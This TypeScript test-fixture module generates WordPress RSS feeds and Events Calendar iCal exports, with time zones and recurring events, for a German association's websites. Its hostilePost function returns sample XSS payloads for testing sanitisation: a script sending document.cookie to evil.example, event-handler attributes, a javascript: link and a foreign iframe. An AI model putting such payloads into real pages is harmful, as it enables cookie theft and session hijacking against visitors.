/**
 * What members' websites publish, as the common website systems write it: WordPress's RSS 2.0
 * feed (content:encoded, an image enclosure, categories) and The Events Calendar's iCal export
 * (a VTIMEZONE, series with RRULE and EXDATE, an overridden date). Dates are fixed (2027): the
 * tests read the sources with the CMS's clock set to January 2027.
 */

export interface FeedEntry {
  id: number;
  title: string;
  /** RFC 822, as WordPress writes pubDate. */
  pubDate: string;
  summary: string;
  /** The post's HTML. */
  content: string;
  image?: string;
  categories?: string[];
}

const cdata = (text: string) => `<![CDATA[${text}]]>`;

/** A WordPress site's /feed/: the site at `site`, its posts at `site/<year>/<slug>/`. */
export function wordpressFeed(site: string, title: string, entries: FeedEntry[]): string {
  const items = entries.map(
    (entry) => `	<item>
		<title>${entry.title.replace(/&/g, '&amp;')}</title>
		<link>${site}/2027/beitrag-${entry.id}/</link>
		<comments>${site}/2027/beitrag-${entry.id}/#respond</comments>
		<dc:creator>${cdata('redaktion')}</dc:creator>
		<pubDate>${entry.pubDate}</pubDate>
${(entry.categories ?? []).map((category) => `		<category>${cdata(category)}</category>`).join('\n')}
		<guid isPermaLink="false">${site}/?p=${entry.id}</guid>
		<description>${cdata(entry.summary)}</description>
		<content:encoded>${cdata(entry.content)}</content:encoded>
${entry.image ? `		<enclosure url="${entry.image}" length="48213" type="image/jpeg" />` : ''}
	</item>`,
  );
  return `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:atom="http://www.w3.org/2005/Atom"
	xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
	xmlns:slash="http://purl.org/rss/1.0/modules/slash/">
<channel>
	<title>${title}</title>
	<atom:link href="${site}/feed/" rel="self" type="application/rss+xml" />
	<link>${site}</link>
	<description>Neuigkeiten aus dem Landesverband</description>
	<lastBuildDate>Mon, 04 Jan 2027 10:00:00 +0000</lastBuildDate>
	<language>de-DE</language>
	<sy:updatePeriod>hourly</sy:updatePeriod>
	<sy:updateFrequency>1</sy:updateFrequency>
	<generator>https://wordpress.org/?v=6.8</generator>
${items.join('\n')}
</channel>
</rss>
`;
}

/** A report as a WordPress post has it, with what an attacker could put into a post. */
export function hostilePost(site: string): string {
  return `<p>Am Samstag trafen sich <strong>32 Aktive</strong> in Hannover.<script>document.location='https://evil.example/?c='+document.cookie</script></p>
<style>body { display: none }</style>
<p onmouseover="alert(1)">Mehr dazu <a href="javascript:alert(document.domain)">hier</a> und im <a href="${site}/protokoll/">Protokoll</a>.</p>
<iframe src="https://evil.example/frame"></iframe>
<figure class="wp-block-image"><img src="${site}/wp-content/uploads/2027/01/gruppe.jpg" alt="Gruppenfoto" width="1024" height="683" onerror="alert(2)"></figure>
<h3>Ergebnisse</h3>
<ul><li>Neue Satzung</li><li>Arbeitsgruppe <em>Jugend</em></li></ul>`;
}

export interface CalendarEvent {
  uid: string;
  /** Lines of the VEVENT besides UID and DTSTAMP, e.g. `DTSTART;TZID=Europe/Berlin:20270113T190000`. */
  lines: string[];
}

/** The VTIMEZONE The Events Calendar writes for Europe/Berlin. */
const BERLIN = `BEGIN:VTIMEZONE
TZID:Europe/Berlin
BEGIN:DAYLIGHT
TZOFFSETFROM:+0100
TZOFFSETTO:+0200
TZNAME:CEST
DTSTART:20270328T010000
END:DAYLIGHT
BEGIN:STANDARD
TZOFFSETFROM:+0200
TZOFFSETTO:+0100
TZNAME:CET
DTSTART:20261025T010000
END:STANDARD
END:VTIMEZONE`;

/** Outlook's name for the same zone, which no zone database knows: only its VTIMEZONE says what it is. */
export const OUTLOOK_ZONE = `BEGIN:VTIMEZONE
TZID:W. Europe Standard Time
BEGIN:STANDARD
DTSTART:16011028T030000
RRULE:FREQ=YEARLY;BYDAY=-1SU;BYMONTH=10
TZOFFSETFROM:+0200
TZOFFSETTO:+0100
END:STANDARD
BEGIN:DAYLIGHT
DTSTART:16010325T020000
RRULE:FREQ=YEARLY;BYDAY=-1SU;BYMONTH=3
TZOFFSETFROM:+0100
TZOFFSETTO:+0200
END:DAYLIGHT
END:VTIMEZONE`;

/** An export of The Events Calendar (WordPress): its header, Berlin's VTIMEZONE, the events; lines folded as iCalendar wants. */
export function eventsCalendarExport(site: string, events: CalendarEvent[], extraZones: string[] = []): string {
  const vevents = events.map((event) =>
    [
      'BEGIN:VEVENT',
      `DTSTAMP:20270104T100000`,
      `UID:${event.uid}`,
      ...event.lines,
      `URL:${site}/veranstaltung/${event.uid.split('@')[0]}/`,
      'END:VEVENT',
    ].join('\n'),
  );
  return (
    [
      'BEGIN:VCALENDAR',
      'VERSION:2.0',
      'PRODID:-//Landesverband - ECPv6.8.0//NONSGML v1.0//EN',
      'CALSCALE:GREGORIAN',
      'METHOD:PUBLISH',
      'X-WR-CALNAME:Landesverband Termine',
      `X-ORIGINAL-URL:${site}`,
      'X-WR-CALDESC:Veranstaltungen für Landesverband',
      'REFRESH-INTERVAL;VALUE=DURATION:PT1H',
      'X-Robots-Tag:noindex',
      'X-PUBLISHED-TTL:PT1H',
      BERLIN,
      ...extraZones,
      ...vevents,
      'END:VCALENDAR',
    ]
      .join('\n')
      .replace(/\n/g, '\r\n') + '\r\n'
  );
}
